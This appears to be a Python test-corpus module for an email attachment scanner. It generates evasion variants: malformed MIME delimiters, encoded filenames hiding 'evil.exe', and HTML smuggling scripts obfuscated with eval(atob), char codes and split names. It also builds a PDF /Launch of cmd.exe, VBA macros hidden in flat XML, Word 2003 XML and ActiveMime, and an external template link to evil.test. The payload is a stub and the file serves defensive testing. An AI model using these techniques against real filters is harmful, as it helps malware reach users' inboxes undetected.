"""Variants between the catalogue's rows, each of which once passed: what an attacker tries who has read the rows."""

from __future__ import annotations

import base64
import zlib
from collections.abc import Iterator, Mapping

from tests.corpus import office, variants_archives
from tests.corpus.case import Case
from tests.corpus.compound_file import compound_file
from tests.corpus.encoders import base64_of, uuencoded
from tests.corpus.mime_pieces import FILE, TEXT, divided, mixed, of
from tests.corpus.nested_made import AMBIGUOUS, PROGRAM, SMUGGLING, attached, found, passing
from tests.corpus.nested_pages import page
from tests.corpus.payloads import STUB, multipart, part
from tests.corpus.wrapping import letters, pdf, pdf_with_file

LEFT_OUT: Mapping[str, str] = {}

MACRO = frozenset({"attachment.macro"})
_NOTE = b"just some words of no importance\r\n"


def cases() -> Iterator[Case]:
    yield from _delimiters()
    yield from _names()
    yield from _pages()
    yield from _ordinary_pages()
    yield from _pdfs()
    yield from _documents()
    yield from variants_archives.cases()


def _delimiters() -> Iterator[Case]:
    longer = b"--foo\r\n" + TEXT + b"--foo-\r\n" + FILE + b"--foo---\r\n" + FILE + b"--foo--\r\n"
    nul = b"--foo\r\n" + TEXT + b"--fo\0o\r\n" + FILE + b"--foo--\r\n"
    declared = b"multipart/mixed; boundary=foo"
    yield Case("M49", "longer-in-a-leaf", of(declared, longer), all_of=PROGRAM | AMBIGUOUS)
    yield Case("M31", "nul-in-delimiter", of(declared, nul), all_of=PROGRAM | AMBIGUOUS)
    inner = b"Content-Type: multipart/mixed; boundary=foo1\r\n\r\n" + divided(TEXT, boundary=b"foo1")
    yield Case("M49", "longer-and-declared", mixed(TEXT, inner), passes=True)
    nameless = uuencoded(STUB, b"x").replace(b"begin 644 x\r\n", b"begin 644\r\n")
    yield Case("D12", "no-name", mixed(TEXT + b"\r\n" + nameless), all_of=PROGRAM)
    certificate = b"\r\n-----BEGIN CERTIFICATE-----\r\n%b-----END CERTIFICATE-----\r\n"
    yield Case("D07", "as-a-certificate", mixed(TEXT + certificate % base64_of(STUB)), all_of=PROGRAM)
    yield Case("D07", "a-certificate", mixed(TEXT + certificate % base64_of(b"0\x82\3\0" + bytes(800))), passes=True)


def _names() -> Iterator[Case]:
    names = {
        "words-in-percents": b"filename*=utf-8''%3D%3Futf-8%3FB%3FZXZpbC5leGU%3D%3F%3D",
        "words-in-sections": b'filename*0="=?utf-8?B?ZXZp"; filename*1="bC5leGU=?="',
        "typographic-quotes": "filename=\u201cevil.exe\u201d".encode(),
    }
    for what, written in names.items():
        fields = b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; %b\r\n" % written
        yield Case("F06", what, multipart(TEXT, part(fields, _NOTE)), all_of=PROGRAM)


# --- pages -----------------------------------------------------------------------------------------------------------

_SAVE = b"var b=new Blob([u]);var a=document.createElement('a');a.href=URL.createObjectURL(b);"
_SAVE += b"a.download='x.zip';a.click();"


def _script(code: bytes) -> bytes:
    return attached(b"a.html", page(b"<script>" + code + b"</script>"), b"text/html")


def _pages() -> Iterator[Case]:
    secret = letters(bytes(octet ^ 0x5A for octet in STUB * 4))
    decode = b"var s=atob('%b'),u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i)^90;" % secret
    code = decode + _SAVE
    hidden = {
        "eval-atob": b"eval(atob('%b'))" % letters(code),
        "eval-atob-twice": b"eval(atob('%b'))" % letters(b"eval(atob('%b'))" % letters(code)),
        "eval-reversed": b"eval(atob('%b'.split('').reverse().join('')))" % letters(code)[::-1],
        "eval-percents": b"eval(unescape('%b'))" % b"".join(b"%%%02x" % one for one in code),
        "eval-char-codes": b"eval(String.fromCharCode(%b))" % b",".join(b"%d" % one for one in code),
        "eval-octal": b"eval('%b')" % b"".join(b"\\%03o" % one for one in code),
        "eval-hex": b"eval(unhex('%b'))" % code.hex().encode("ascii"),
        "function": b"new Function(atob('%b'))()" % letters(code),
        "names-of-lists": decode + b"var b=new window[['Bl','ob'].join('')]([u]);a={};a.href="
        b"URL[['createObject','URL'].join('')](b);a[['down','load'].join('')]='x'",
        "names-of-variables": decode + b"var p='Bl',q='ob',c='create',o='ObjectURL';var b=new window[p+q]([u]);"
        b"a.href=URL[c+o](b)",
        "escape-with-zeros": code.replace(b"Blob", b"\\u{0000042}lob"),
    }
    yield from found("C16", SMUGGLING, ((what, _script(one)) for what, one in hidden.items()))
    comment = page(b"<!-- %b --><script>go()</script>" % letters(STUB))
    word = page(b"<p hidden>file %b</p><script>go()</script>" % letters(STUB))
    both = {"in-comment": comment, "behind-a-word": word}
    yield from found("C16", SMUGGLING | PROGRAM, ((k, attached(b"a.html", v, b"text/html")) for k, v in both.items()))


def _ordinary_pages() -> Iterator[Case]:
    data = letters(bytes(range(256)) * 12)
    ordinary = {
        "minified": b"!function(e,t){var n=e[t+'Event'];window['on'+t]=1;k=String.fromCharCode(65)}(window,'a');",
        "data-in-json": b"var report={token:'%b'};show(report)" % data,
        "loader": b"(function(w,d,s,l){w[l]=w[l]||[];w[l].push({e:1})})(window,document,'script','layer');",
    }
    yield from passing("C16", ((f"ordinary-{k}", _script(one)) for k, one in ordinary.items()))


# --- documents -------------------------------------------------------------------------------------------------------


def _pdfs() -> Iterator[Case]:
    plain = pdf_with_file(b"a.txt", STUB)
    yield from found(
        "C18", PROGRAM, [("heads-with-comments", attached(b"a.pdf", plain.replace(b" 0 obj", b"%x\n0%y\nobj")))]
    )
    yield from found(
        "C18",
        frozenset({"attachment.active_content"}),
        [("launch-by-reference", attached(b"a.pdf", pdf(b"<< /S 4 0 R /F (cmd.exe) >>", b"/Launch")))],
    )
    form = b"<?xml version='1.0'?><xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><pdf><document><chunk>%b</chunk>"
    form = form % base64_of(plain) + b"</document></pdf></xdp:xdp>"
    yield from found("C18", PROGRAM, [("xdp", attached(b"a.xdp", form))])


def _documents() -> Iterator[Case]:
    project = compound_file({"VBA": office.VBA["VBA"], "PROJECT": b"ID="})
    flat = b"<?xml version='1.0'?><pkg:package xmlns:pkg='%b'><pkg:part pkg:name='/word/%b'><pkg:binaryData>%b"
    flat += b"</pkg:binaryData></pkg:part></pkg:package>"
    space = b"http://schemas.microsoft.com/office/2006/xmlPackage"
    flat_macro = flat % (space, b"vbaProject.bin", base64_of(project))
    old = b"<?xml version='1.0'?><w:wordDocument xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'>"
    old += b"<w:binData w:name='editdata.mso'>%b</w:binData></w:wordDocument>"
    mso = b"ActiveMime\0\0\1\xf0\4\0\0\0\xff\xff\xff\xff\0\0\7\xf0".ljust(0x32, b"\0") + zlib.compress(project)
    archive = multipart(
        part(b"Content-Type: text/html\r\n", b"<html><link rel=Edit-Time-Data href='editdata.mso'></html>"),
        part(b"Content-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\n", base64_of(mso)),
        kind=b"related",
    )
    macros = {
        "flat-package": attached(b"a.xml", flat_macro),
        "word-2003-xml": attached(b"a.xml", old % base64_of(mso)),
        "active-mime-in-web-archive": attached(b"a.doc", archive),
    }
    yield from found("C17", MACRO, macros.items())
    outside = office.relations(("attachedTemplate", "http://evil.test/x", "External")).partition(b"?>")[2]
    linked = b"<pkg:package xmlns:pkg='%b'>%b</pkg:package>" % (space, outside)
    yield from found("C17", frozenset({"attachment.active_content"}), [("flat-template", attached(b"a.xml", linked))])
    picture = flat % (space, b"media/i.png", base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(900)))
    yield from passing("C17", [("flat-harmless", attached(b"a.xml", picture))])
